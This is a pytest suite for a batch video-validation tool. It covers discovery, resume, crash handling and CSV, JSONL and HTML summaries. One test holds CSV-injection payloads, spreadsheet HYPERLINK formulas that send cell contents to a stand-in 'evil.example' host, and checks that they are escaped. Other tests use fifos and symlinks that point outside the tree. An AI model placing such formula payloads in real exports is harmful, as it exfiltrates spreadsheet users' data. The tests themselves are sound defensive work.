"""``appeal-validator batch``: discovery, resume, unreadable cases, summaries vs reports."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import signal
import subprocess
import sys
import time
from html.parser import HTMLParser
from pathlib import Path

import pytest
from _media import ROOT, clip

from validator.batch import discover, exit_code
from validator.batch.summary import COLUMNS


def make_tree(root: Path) -> Path:
    """caseA: clean + case.json; caseB: too-short; a loose corrupt video; a junk file."""
    clean, truth = clip("clean")
    short, _ = clip("too-short")
    (root / "caseA").mkdir(parents=True)
    shutil.copy(clean, root / "caseA" / "unboxing.mp4")
    (root / "caseA" / "case.json").write_text(json.dumps(truth["case"]), "utf-8")
    (root / "nested" / "caseB").mkdir(parents=True)
    shutil.copy(short, root / "nested" / "caseB" / "video.mp4")
    (root / "broken.mp4").write_bytes(clean.read_bytes()[:4000])  # truncated mp4
    (root / "notes.txt").write_text("not a video")
    return root


def cli(*args: str, timeout: float = 120) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "validator", "batch", *args],
        capture_output=True,
        text=True,
        timeout=timeout,
        cwd=ROOT,
    )


def test_discover_cases(tmp_path: Path) -> None:
    (tmp_path / "a").mkdir()
    (tmp_path / "a" / "1.mp4").write_bytes(b"x")
    (tmp_path / "a" / "2.MOV").write_bytes(b"x")
    (tmp_path / "a" / "case.json").write_text("{}")
    (tmp_path / "b" / "c").mkdir(parents=True)
    (tmp_path / "b" / "c" / "v.mp4").write_bytes(b"x")
    (tmp_path / "loose.mp4").write_bytes(b"x")
    (tmp_path / "only-case").mkdir()
    (tmp_path / "only-case" / "case.json").write_text("{}")
    (tmp_path / ".appeal-validator" / "x").mkdir(parents=True)
    (tmp_path / ".appeal-validator" / "x" / "v.mp4").write_bytes(b"x")
    cases = {c.id: c for c in discover(tmp_path)}
    assert set(cases) == {"a", "b/c", "loose.mp4", "only-case"}
    assert [v.name for v in cases["a"].videos] == ["1.mp4", "2.MOV"]
    assert cases["a"].case_file is not None
    assert cases["only-case"].videos == ()


@pytest.mark.parametrize(
    ("rows", "code"),
    [
        pytest.param([{"status": "done", "verdict": "pass"}], 0, id="all-pass"),
        pytest.param(
            [{"status": "done", "verdict": "pass"}, {"status": "done", "verdict": "review"}],
            3,
            id="review",
        ),
        pytest.param(
            [{"status": "done", "verdict": "review"}, {"status": "done", "verdict": "fail"}],
            1,
            id="fail-beats-review",
        ),
        pytest.param(
            [{"status": "done", "verdict": "fail"}, {"status": "unreadable", "verdict": ""}],
            4,
            id="unreadable-beats-fail",
        ),
    ],
)
def test_exit_code(rows: list[dict], code: int) -> None:
    assert exit_code(rows) == code


class _Rows(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.rows: list[dict[str, str]] = []
        self.cases: list[str] = []
        self._col: str | None = None

    def handle_starttag(self, tag: str, attrs: list) -> None:
        a = dict(attrs)
        if tag == "tr" and "data-case" in a:
            self.cases.append(a["data-case"])
            self.rows.append({})
        elif tag == "td" and self.rows:
            self._col = a.get("data-col")
            self.rows[-1].setdefault(self._col, "")
        elif tag == "img" and self.rows:
            self.rows[-1]["thumbnail"] = a["src"]
        elif tag == "a" and self.rows:
            self.rows[-1]["report"] = a["href"]

    def handle_data(self, data: str) -> None:
        if self._col and self.rows and self._col not in ("thumbnail", "report"):
            self.rows[-1][self._col] += data

    def handle_endtag(self, tag: str) -> None:
        if tag == "td":
            self._col = None


def test_batch_corrupt_video_listed_and_summaries_match(tmp_path: Path) -> None:
    root = make_tree(tmp_path / "in")
    out = tmp_path / "out"
    r = cli(str(root), "-j", "2", "--out", str(out))
    assert r.returncode == 4, r.stderr
    assert "broken.mp4" in r.stderr and "could not be read" in r.stderr
    jsonl = [json.loads(line) for line in (out / "summary.jsonl").read_text().splitlines()]
    assert [row["case_id"] for row in jsonl] == ["broken.mp4", "caseA", "nested/caseB"]
    assert jsonl == [json.loads(line) for line in r.stdout.splitlines()]
    by_id = {row["case_id"]: row for row in jsonl}
    assert by_id["broken.mp4"]["status"] == "unreadable"
    assert by_id["broken.mp4"]["error"]  # says why
    # The others finished, with their reports and thumbnails.
    for case_id in ("caseA", "nested/caseB"):
        row = by_id[case_id]
        report = json.loads((out / row["report"]).read_text())
        assert row["status"] == report["status"] == "done"
        assert row["verdict"] == report["verdict"] in ("pass", "fail", "review")
        (video,) = report["videos"]
        for name in ("consistency", "completeness", "validity", "timeliness"):
            assert row[name] == video["requirements"][name]["verdict"]
        assert row["thumbnail"] and (out / row["thumbnail"]).is_file()
    assert by_id["nested/caseB"]["completeness"] == "fail"  # too short
    case_a = json.loads((out / by_id["caseA"]["report"]).read_text())
    assert by_id["caseA"]["predicted_outcome"] == case_a["prediction"]["outcome"]
    assert by_id["nested/caseB"]["predicted_outcome"] == ""  # no case.json
    # CSV: the same rows, as text.
    with open(out / "summary.csv", newline="", encoding="utf-8") as f:
        csv_rows = list(csv.DictReader(f))
    assert list(csv_rows[0]) == list(COLUMNS)
    assert csv_rows == [{k: str(v) for k, v in row.items()} for row in jsonl]
    # HTML: one row per case with the same values, a thumbnail and a link to the report.
    parser = _Rows()
    parser.feed((out / "index.html").read_text("utf-8"))
    assert len(parser.rows) == len(jsonl)
    for html_row, row in zip(parser.rows, jsonl, strict=True):
        for k, v in row.items():
            if k == "thumbnail" and not v:
                assert "thumbnail" not in html_row or html_row["thumbnail"] == ""
                continue
            assert html_row[k] == str(v), k
    # A rerun skips every unchanged case, and still lists the unreadable one.
    again = cli(str(root), "--out", str(out), "--format", "csv")
    assert again.returncode == 4
    assert "0 checked, 3 unchanged" in again.stderr
    assert list(csv.DictReader(io.StringIO(again.stdout))) == csv_rows
    # A changed case.json changes the key: only that case is checked again.
    case = json.loads((root / "caseA" / "case.json").read_text())
    case.setdefault("return", {})["tracking_number"] = "SF0000000000000"
    (root / "caseA" / "case.json").write_text(json.dumps(case))
    third = cli(str(root), "--out", str(out), "-j", "1")
    assert "1 checked, 2 unchanged" in third.stderr


def _default_sigint() -> None:
    signal.signal(signal.SIGINT, signal.SIG_DFL)


def test_batch_resume_after_interrupt(tmp_path: Path) -> None:
    clean, _ = clip("clean")
    root = tmp_path / "in"
    n = 4  # the interrupt lands after the first of four (-j 1): three are still waiting
    for i in range(n):
        (root / f"case{i}").mkdir(parents=True)
        shutil.copy(clean, root / f"case{i}" / "v.mp4")
    out = tmp_path / "out"
    proc = subprocess.Popen(
        [sys.executable, "-m", "validator", "batch", str(root), "-j", "1", "--out", str(out)],
        cwd=ROOT,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,  # the Ctrl-C of a terminal reaches the whole group
        # A run started in the background (CI, `cmd &`) inherits SIGINT ignored; a
        # terminal's user would not have it so.
        preexec_fn=_default_sigint,
    )
    try:
        deadline = time.monotonic() + 90
        while time.monotonic() < deadline:
            if list((out / "cases").glob("*/report.json")):
                break
            time.sleep(0.1)
        else:
            pytest.fail("no case finished in 90 s")
        os.killpg(proc.pid, signal.SIGINT)
        proc.wait(30)
    finally:
        if proc.poll() is None:
            os.killpg(proc.pid, signal.SIGKILL)
            proc.wait()
    assert proc.returncode != 0
    done = list((out / "cases").glob("*/report.json"))
    assert 1 <= len(done) < n
    for p in done:  # whatever is there is whole
        assert json.loads(p.read_text())["status"] == "done"
    r = cli(str(root), "-j", "2", "--out", str(out))
    assert r.returncode == 3, r.stderr  # no case.json: no sign-for time, so review
    assert f"{n - len(done)} checked, {len(done)} unchanged" in r.stderr
    assert not [p for p in (out / "cases").iterdir() if p.name.startswith(".")]
    assert len((out / "summary.jsonl").read_text().splitlines()) == n


def crashy_case(job: dict) -> dict:
    """run_case, except that a case named ``segv`` kills its process (a decoder crash)."""
    if job["case_id"] == "segv":
        os._exit(139)
    from validator.batch.work import run_case

    return run_case(job)


def test_a_crashing_process_does_not_stop_the_others(tmp_path, monkeypatch) -> None:
    from validator.batch import run as run_mod

    real = run_mod._run_local
    monkeypatch.setattr(
        run_mod, "_run_local", lambda pending, jobs, progress: real(pending, jobs, progress,
                                                                    crashy_case)
    )  # fmt: skip
    root = tmp_path / "in"
    for name in ("segv", "ok1", "ok2"):
        (root / name).mkdir(parents=True)
        (root / name / "v.mp4").write_bytes(b"\0\0\0\x18ftypmp42" + b"\0" * 64)
    stream = io.StringIO()
    result = run_mod.run_batch(root, jobs=2, out=tmp_path / "out", stream=stream)
    rows = {r["case_id"]: r for r in result.rows}
    assert rows["segv"]["status"] == "error" and "died" in rows["segv"]["error"]
    assert rows["ok1"]["status"] == rows["ok2"]["status"] == "unreadable"  # analysed
    assert result.exit_code == 4
    assert "segv: crashed" in stream.getvalue()


def test_summary_row_reads_both_picture_shapes():
    """Reports of 0.2 list pictures in ``thumbnails.files``; earlier ones (kept when a
    batch is resumed over an old output folder) as a plain list."""
    from validator.batch.summary import row

    new = {"thumbnails": {"files": ["v0/face-1.jpg", "v0/waybill.jpg", "v0/contact_sheet.jpg"]}}
    old = {"thumbnails": ["v0/cut-1.00.jpg"]}
    base = {"case_id": "a", "status": "done", "verdict": "pass"}
    assert row({**base, "videos": [new]}, "a")["thumbnail"] == "cases/a/v0/waybill.jpg"
    assert row({**base, "videos": [old]}, "a")["thumbnail"] == "cases/a/v0/cut-1.00.jpg"
    assert row({**base, "videos": [{}]}, "a")["thumbnail"] == ""


def _hostile_tree(root: Path, outside: Path) -> Path:
    """One good case and one case per entry that once stopped (or hung) the whole run."""
    short, _ = clip("too-short")
    for name in ("ok", "fifo", "dangling", "escape", "deep"):
        (root / name).mkdir(parents=True)
    shutil.copy(short, root / "ok" / "v.mp4")
    os.mkfifo(root / "fifo" / "v.mp4")  # opened for reading, it waits for a writer forever
    (root / "dangling" / "v.mp4").symlink_to(root / "gone.mp4")
    shutil.copy(short, outside)
    (root / "escape" / "v.mp4").symlink_to(outside)  # out of the tree: never followed
    (root / "deep" / "v.mp4").write_bytes(b"\0\0\0\x18ftypmp42" + b"\0" * 64)
    (root / "deep" / "case.json").write_text("[" * 5000 + "]" * 5000)  # nested past the stack
    return root


def test_no_entry_stops_the_batch(tmp_path: Path) -> None:
    """Issue 13, item 11: a fifo, a dangling link, a link out of the tree and a nested
    case.json are each a listed, unreadable case (exit 4); the good case finishes."""
    root = _hostile_tree(tmp_path / "in", tmp_path / "outside.mp4")
    out = tmp_path / "out"
    r = cli(str(root), "-j", "2", "--out", str(out), timeout=180)
    assert r.returncode == 4, r.stderr
    assert "Traceback" not in r.stderr
    rows = {row["case_id"]: row for row in map(json.loads, r.stdout.splitlines())}
    assert set(rows) == {"ok", "fifo", "dangling", "escape", "deep"}
    assert rows["ok"]["status"] == "done" and rows["ok"]["verdict"] in ("pass", "fail", "review")
    for case_id in ("fifo", "dangling", "escape", "deep"):
        assert rows[case_id]["status"] in ("unreadable", "error"), rows[case_id]
        assert rows[case_id]["error"], case_id  # says why
        assert f"case {case_id} could not be read" in r.stderr
    assert "regular file" in rows["fifo"]["error"] and "nothing" in rows["dangling"]["error"]
    assert "leaves the folder tree" in rows["escape"]["error"]
    assert rows["escape"]["videos"] == ""  # the file outside was never checked
    assert "64 levels" in rows["deep"]["error"]


def test_a_file_it_may_not_read_is_a_listed_case(tmp_path: Path, monkeypatch) -> None:
    """chmod 000 (root reads it anyway: there, opening it fails by a patched open, in
    this process: the cases run in it through the ``submit`` hook)."""
    import builtins

    from validator.batch import run_batch
    from validator.batch.work import run_case

    short, _ = clip("too-short")
    root = tmp_path / "in"
    for name in ("ok", "locked"):
        (root / name).mkdir(parents=True)
        shutil.copy(short, root / name / "v.mp4")
    locked = root / "locked" / "v.mp4"
    locked.chmod(0)
    if os.geteuid() == 0:
        denied = str(locked)

        def guard(real):
            def call(path, *a, **kw):
                if isinstance(path, str | Path) and os.fspath(path) == denied:
                    raise PermissionError(13, "Permission denied", os.fspath(path))
                return real(path, *a, **kw)

            return call

        monkeypatch.setattr(os, "open", guard(os.open))
        monkeypatch.setattr(builtins, "open", guard(builtins.open))
        monkeypatch.setattr(io, "open", guard(io.open))

    def here(jobs: list[dict], step) -> None:
        for job in jobs:
            run_case(job)
            step(job["case_id"], "ran")

    result = run_batch(root, out=tmp_path / "out", stream=io.StringIO(), submit=here)
    rows = {r["case_id"]: r for r in result.rows}
    assert rows["ok"]["status"] == "done"
    assert rows["locked"]["status"] == "unreadable"
    assert "permission" in rows["locked"]["error"].lower()
    assert result.exit_code == 4


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_summary_csv_escapes_what_a_spreadsheet_would_run(lead: str) -> None:
    """Issue 13, item 12 (OWASP CSV injection): a text cell that begins with = + - @, tab
    or CR is written with a leading single quote; numbers and other text as they are."""
    from validator.batch.summary import render_csv, row

    formula = f'{lead}HYPERLINK("http://evil.example/?"&A1,"open")'
    result = {
        "case_id": formula,
        "status": "unreadable",
        "videos": [],
        "unreadable": [{"video": f"{lead}cmd.mp4", "message": "not a video"}],
        "prediction": {"outcome": "uncertain", "score": -2},
    }
    (parsed,) = csv.DictReader(io.StringIO(render_csv([row(result, "slug")])))
    assert parsed["case_id"] == "'" + formula
    assert parsed["unreadable"] == f"'{lead}cmd.mp4"
    assert parsed["error"] == f"'{lead}cmd.mp4: not a video"
    assert parsed["predicted_score"] == "-2"  # a number, not a formula
    assert parsed["status"] == "unreadable" and parsed["report"] == "cases/slug/report.json"
